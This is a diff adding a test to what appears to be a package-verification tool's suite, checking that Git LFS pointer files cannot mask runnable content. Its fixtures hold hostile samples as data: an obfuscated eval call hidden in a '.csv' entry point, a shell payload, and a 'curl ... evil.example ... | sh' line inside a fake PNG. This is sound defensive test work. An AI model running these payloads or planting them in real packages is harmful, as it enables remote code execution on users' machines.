@@ -79,3 +79,34 @@ else fs.writeFileSync('dist/a.js', data.map((byte) => byte ^ 255));
   assertNotReproduced(second);
   assert.equal(second.verdict, alone.verdict, 'what was checked before decides');
 });
+
+/** A package of files as they are, one of which git has by Git LFS. */
+async function plain(world, name, { path, data, fields = {}, more = {} }) {
+  const own = manifest(name, '1.0.0', { repository: { type: 'git', url: `git+https://github.com/kit/${name}.git` }, ...fields });
+  const kept = { 'package.json': own, 'index.js': '1\n', '.gitattributes': `${path} filter=lfs diff=lfs merge=lfs -text\n`, ...more };
+  const files = { ...kept, [path]: pointerOf(Buffer.from(data)) };
+  const { c } = await world.host.add(`kit/${name}`, { commits: [{ label: 'c', files }], tags: { 'v1.0.0': 'c' } });
+  await world.registry.publish({ files: { ...kept, [path]: data }, gitHead: c });
+  return `${name}@1.0.0`;
+}
+
+attack('what a reader of scripts would run is proved by no pointer, whatever it is called', async ({ world, id, judge }) => {
+  const call = "0,'f'+[eval+''][0][13]+'1)' instanceof { [Symbol.hasInstance]: eval }\n";
+  const cases = {
+    table: { path: 'lib/core.csv', data: call, more: { 'lib/package.json': '{"main":"core.csv"}\n' } },
+    shell: { path: 'model.bin', data: '\x01\necho PAYLOAD RUNS; id -un\nexit\n\0' },
+    picture: { path: 'a.png', data: Buffer.from('\x89PNG\r\n\x1a\n\0\0\ncurl -s http://evil.example/x | sh\n', 'latin1') },
+    archive: { path: 'a.png', data: Buffer.from('\x89PNG\r\n\x1a\n\0\0PK\x05\x06' + '\0'.repeat(18), 'latin1') },
+    exported: { path: 'data/core.csv', data: 'a,b\n1,2\n', fields: { exports: { './*': './data/*.csv' } } },
+    globbed: { path: 'model.txt', data: 'plain words\n', fields: { scripts: { start: 'sh mod*' } } },
+  };
+  for (const [label, options] of Object.entries(cases)) {
+    assertNotReproduced(await judge(await plain(world, `${id}-${label}`, options), { args }));
+  }
+  // The control: a text and a table in which nobody finds anything to do.
+  for (const [label, options] of Object.entries({ text: { path: 'model.bin', data: 'hello world' }, rows: { path: 'a.csv', data: 'a,b\n1,2\n' } })) {
+    const answer = await judge(await plain(world, `${id}-${label}`, options), { args });
+    assert.deepEqual([answer.verdict, answer.code], ['identical', null], label);
+    findingOf(answer, 'lfs-by-pointer');
+  }
+});
